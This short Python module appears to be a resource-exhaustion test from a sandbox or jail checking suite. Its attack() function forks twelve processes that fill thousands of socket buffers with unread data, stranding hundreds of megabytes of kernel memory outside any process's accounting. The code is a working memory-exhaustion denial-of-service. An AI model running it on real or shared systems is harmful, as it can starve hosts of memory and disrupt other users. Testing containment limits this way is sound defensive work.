"""Leaves megabytes unread in each of thousands of sockets, which belong to no process.

Form: jail
Alive: exhausts
Says: MiB of memory
"""

import os
import socket
import time


def attack():
    reading, writing = os.pipe()
    for _ in range(12):
        if not os.fork():
            os.write(writing, b"%10d" % fill(200))
            time.sleep(20)
            os._exit(0)
    total = sum(int(os.read(reading, 10)) for _ in range(12))
    time.sleep(6)
    return total > 400 << 20


def fill(pairs):
    held, total = [], 0
    for _ in range(pairs):
        held.append(socket.socketpair())
        for end in held[-1]:
            end.setblocking(False)
            try:
                while True:
                    total += end.send(bytes(65_536))
            except BlockingIOError:
                continue
    fill.held = held
    return total
